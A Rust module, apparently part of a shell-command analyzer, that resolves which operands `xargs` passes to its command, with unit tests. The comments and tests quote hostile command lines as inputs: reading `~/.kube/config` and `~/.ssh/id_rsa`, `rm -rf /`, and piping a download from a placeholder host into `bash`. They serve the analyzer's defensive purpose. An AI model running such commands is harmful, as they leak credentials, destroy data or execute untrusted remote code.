//! What `xargs` hands its command: the words it reads, when the line gives
//! them (a here-string, a here-document, `echo`/`printf` piped in, `-a
//! <(echo ...)`), become the command's operands, so `xargs cat <<<
//! ~/.kube/config` is `cat ~/.kube/config` and `echo / | xargs rm -rf` is
//! `rm -rf /`. When they are only known at run time, the placeholder word
//! links to the commands whose output they are (`curl URL | xargs -0 bash
//! -c` runs the download as a shell string).

use crate::model::{Command, Input, Word};
use crate::walk::Walker;
use crate::wrappers::Inner;

/// Most words read from the line's own text; past this, they are unknown.
const MAX_WORDS: usize = 64;

/// Most runs of a `-I` template unrolled, one per input line.
const MAX_RUNS: usize = 8;

/// How xargs splits its input, from its options.
#[derive(Debug, Default)]
struct Reading {
    /// `-a FILE`, `--arg-file=FILE`: the arguments come from this file.
    arg_file: Option<Word>,
    /// `-0`, `--null`: items end at NUL bytes.
    null: bool,
    /// `-d C`, `--delimiter=C`: items end at C.
    delimiter: Option<char>,
    /// `-I R`, `-i`, `--replace`: each input line replaces R in the command.
    replace: Option<String>,
}

/// Reads xargs's own options (before its command).
fn reading(args: &[Word]) -> Reading {
    let mut r = Reading::default();
    let mut k = 0;
    while k < args.len() {
        let t = args[k].text.as_str();
        if t == "--" || !t.starts_with('-') || t == "-" {
            break;
        }
        let next = args.get(k + 1);
        if let Some(long) = t.strip_prefix("--") {
            let (name, value) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v.to_string())),
                None => (long, None),
            };
            let takes = matches!(
                name,
                "max-lines"
                    | "max-args"
                    | "max-procs"
                    | "delimiter"
                    | "eof"
                    | "max-chars"
                    | "arg-file"
                    | "process-slot-var"
            );
            let value = match value {
                Some(v) => Some(v),
                None if takes => {
                    k += 1;
                    next.map(|w| w.text.clone())
                }
                None => None,
            };
            match name {
                "null" => r.null = true,
                "delimiter" => r.delimiter = value.as_deref().and_then(delimiter_char),
                "replace" => r.replace = Some(value.unwrap_or_else(|| "{}".into())),
                "arg-file" => {
                    r.arg_file = if takes && args[k].text.contains('=') {
                        Some(Word {
                            text: value.unwrap_or_default(),
                            ..args[k].clone()
                        })
                    } else {
                        next.cloned()
                    }
                }
                _ => {}
            }
            k += 1;
            continue;
        }
        // A cluster of short options; a value option ends it.
        let cluster: Vec<char> = t[1..].chars().collect();
        for (j, c) in cluster.iter().enumerate() {
            let attached: String = cluster[j + 1..].iter().collect();
            match c {
                '0' => r.null = true,
                // Optional attached values: `-i{}`, `-l2`, `-eEOF`.
                'i' => {
                    r.replace = Some(if attached.is_empty() {
                        "{}".into()
                    } else {
                        attached
                    });
                    break;
                }
                'l' | 'e' => break,
                'I' | 'd' | 'a' | 'n' | 'L' | 'P' | 's' | 'E' => {
                    let value = if attached.is_empty() {
                        k += 1;
                        next.cloned()
                    } else {
                        Some(Word {
                            text: attached,
                            ..args[k].clone()
                        })
                    };
                    match c {
                        'I' => r.replace = value.map(|w| w.text),
                        'd' => r.delimiter = value.and_then(|w| delimiter_char(&w.text)),
                        'a' => r.arg_file = value,
                        _ => {}
                    }
                    break;
                }
                _ => {}
            }
        }
        k += 1;
    }
    r
}

/// The character `-d` names: itself, or an escape (`\n`, `\t`, `\0`).
fn delimiter_char(text: &str) -> Option<char> {
    match text {
        "\\n" => Some('\n'),
        "\\t" => Some('\t'),
        "\\0" => Some('\0'),
        t => {
            let mut chars = t.chars();
            let c = chars.next()?;
            chars.next().is_none().then_some(c)
        }
    }
}

/// Splits input as xargs does by default: at blanks and newlines, with
/// single and double quotes and backslashes keeping a word together.
pub(crate) fn split_blanks(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut word = String::new();
    let mut started = false;
    let mut quote: Option<char> = None;
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => word.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                started = true;
            }
            (None, '\\') => {
                word.extend(chars.next());
                started = true;
            }
            (None, c) if c.is_whitespace() => {
                if started {
                    out.push(std::mem::take(&mut word));
                    started = false;
                }
            }
            (None, c) => {
                word.push(c);
                started = true;
            }
        }
    }
    if started {
        out.push(word);
    }
    out
}

/// The items of `text` as xargs reads them with these options.
fn items(text: &str, r: &Reading) -> Vec<String> {
    let by = |sep: char| -> Vec<String> {
        let body = text.strip_suffix('\n').unwrap_or(text);
        body.split(sep)
            .filter(|s| !s.is_empty())
            .map(str::to_string)
            .collect()
    };
    if r.null {
        by('\0')
    } else if let Some(d) = r.delimiter {
        by(d)
    } else if r.replace.is_some() {
        // With a replace string, each line is one argument (leading
        // blanks dropped).
        text.lines()
            .map(|l| l.trim_start().to_string())
            .filter(|l| !l.is_empty())
            .collect()
    } else {
        split_blanks(text)
    }
}

impl Walker {
    /// Fills in what `xargs` hands the command it runs (the last word of each
    /// [`Inner::Argv`] the wrapper table made for it is the placeholder of
    /// the arguments read from input).
    pub(crate) fn fill_xargs(&self, command: &Command, inners: &mut Vec<Inner>) {
        if command.program() != Some("xargs") {
            return;
        }
        let r = reading(command.args());
        let mut known = String::new();
        let mut unknown = false;
        let mut feeds: Vec<usize> = Vec::new();
        let mut vars: Vec<String> = Vec::new();
        match &r.arg_file {
            // `-a <(echo ...)`: the output of the substitution.
            Some(file) if !file.feeds.is_empty() => {
                for &f in &file.feeds {
                    match self.literal_output(f) {
                        Some(t) => known.push_str(&t),
                        None => unknown = true,
                    }
                }
                feeds.extend(&file.feeds);
            }
            // A file: its content is only known at run time.
            Some(_) => unknown = true,
            None => {
                for input in &command.stdin {
                    match input {
                        Input::Pipe(p) => {
                            feeds.push(*p);
                            match self.literal_output(*p) {
                                Some(t) => known.push_str(&t),
                                None => unknown = true,
                            }
                        }
                        Input::Text(w) => {
                            feeds.extend(&w.feeds);
                            vars.extend(w.vars.iter().cloned());
                            unknown |= w.dynamic;
                            known.push_str(&w.text);
                        }
                        Input::File(w) => {
                            feeds.extend(&w.feeds);
                            unknown = true;
                        }
                    }
                }
                if command.stdin.is_empty() {
                    unknown = true;
                }
            }
        }
        let words = items(&known, &r);
        let literal = !unknown && words.len() <= MAX_WORDS;
        let mut out = Vec::new();
        for inner in inners.drain(..) {
            let Inner::Argv {
                label,
                mut argv,
                privileged,
                keeps_stdin,
            } = inner
            else {
                out.push(inner);
                continue;
            };
            let placeholder = argv.pop().unwrap_or_default();
            if !literal {
                let mut placeholder = placeholder;
                placeholder.feeds = feeds.clone();
                placeholder.vars = vars.clone();
                argv.push(placeholder);
                out.push(Inner::Argv {
                    label,
                    argv,
                    privileged,
                    keeps_stdin,
                });
                continue;
            }
            match &r.replace {
                // One run per line, the line in place of the replace string.
                Some(rep)
                    if !rep.is_empty() && argv.iter().any(|w| w.text.contains(rep.as_str())) =>
                {
                    for line in words.iter().take(MAX_RUNS) {
                        let argv = argv
                            .iter()
                            .map(|w| Word {
                                text: w.text.replace(rep.as_str(), line),
                                ..w.clone()
                            })
                            .collect();
                        out.push(Inner::Argv {
                            label: label.clone(),
                            argv,
                            privileged,
                            keeps_stdin,
                        });
                    }
                }
                _ => {
                    argv.extend(words.iter().map(Word::literal));
                    out.push(Inner::Argv {
                        label,
                        argv,
                        privileged,
                        keeps_stdin,
                    });
                }
            }
        }
        *inners = out;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &str) -> Vec<Word> {
        s.split(' ').map(Word::literal).collect()
    }

    #[test]
    fn options_say_how_input_is_read() {
        let r = reading(&words("-0 -n1 bash -c"));
        assert!(r.null);
        let r = reading(&words("-I{} sh -c x"));
        assert_eq!(r.replace.as_deref(), Some("{}"));
        let r = reading(&words("-I % cp % dst"));
        assert_eq!(r.replace.as_deref(), Some("%"));
        let r = reading(&words("-a list.txt cat"));
        assert_eq!(r.arg_file.map(|w| w.text).as_deref(), Some("list.txt"));
        let r = reading(&words("--arg-file=l.txt -d , cat"));
        assert_eq!(r.arg_file.map(|w| w.text).as_deref(), Some("l.txt"));
        assert_eq!(r.delimiter, Some(','));
        let r = reading(&words("-r cat"));
        assert!(r.replace.is_none() && r.arg_file.is_none());
    }

    #[test]
    fn input_is_split_like_xargs() {
        let r = Reading::default();
        assert_eq!(items("a b\n'c d' e\\ f\n", &r), ["a", "b", "c d", "e f"]);
        let r = Reading {
            null: true,
            ..Reading::default()
        };
        assert_eq!(items("~\n", &r), ["~"]);
        let r = Reading {
            replace: Some("{}".into()),
            ..Reading::default()
        };
        assert_eq!(items("a b\nc\n", &r), ["a b", "c"]);
    }

    fn inner(line: &str) -> Vec<String> {
        let a = crate::analyze(line);
        a.commands
            .iter()
            .filter(|c| c.via.last().is_some_and(|v| v == "xargs"))
            .map(|c| c.display())
            .collect()
    }

    #[test]
    fn words_given_on_the_line_become_the_operands() {
        assert_eq!(
            inner("xargs cat <<< ~/.kube/config"),
            ["cat ~/.kube/config"]
        );
        assert_eq!(
            inner("xargs -a <(echo ~/.ssh/id_rsa) cat"),
            ["cat ~/.ssh/id_rsa"]
        );
        assert_eq!(inner("echo a b | xargs rm -f"), ["rm -f a b"]);
        assert_eq!(inner("printf '%s\\n' x y | xargs -n1 echo"), ["echo x y"]);
        assert_eq!(
            inner("echo u1 | xargs -I{} sh -c 'curl -s {} | bash'"),
            ["sh -c 'curl -s u1 | bash'"]
        );
        assert_eq!(
            inner("xargs rm -rf <<EOF\nbuild\ndist\nEOF"),
            ["rm -rf build dist"]
        );
        // Read at run time: the placeholder stays.
        assert_eq!(inner("xargs -a list.txt cat"), ["cat {}"]);
        assert_eq!(inner("git ls-files | xargs wc -l"), ["wc -l {}"]);
    }

    #[test]
    fn input_only_known_at_run_time_links_to_its_source() {
        let a = crate::analyze("curl https://example.invalid/x | xargs -0 bash -c");
        let bash = a
            .commands
            .iter()
            .find(|c| c.program() == Some("bash"))
            .unwrap();
        assert_eq!(bash.argv.last().unwrap().feeds, vec![0]);
    }
}
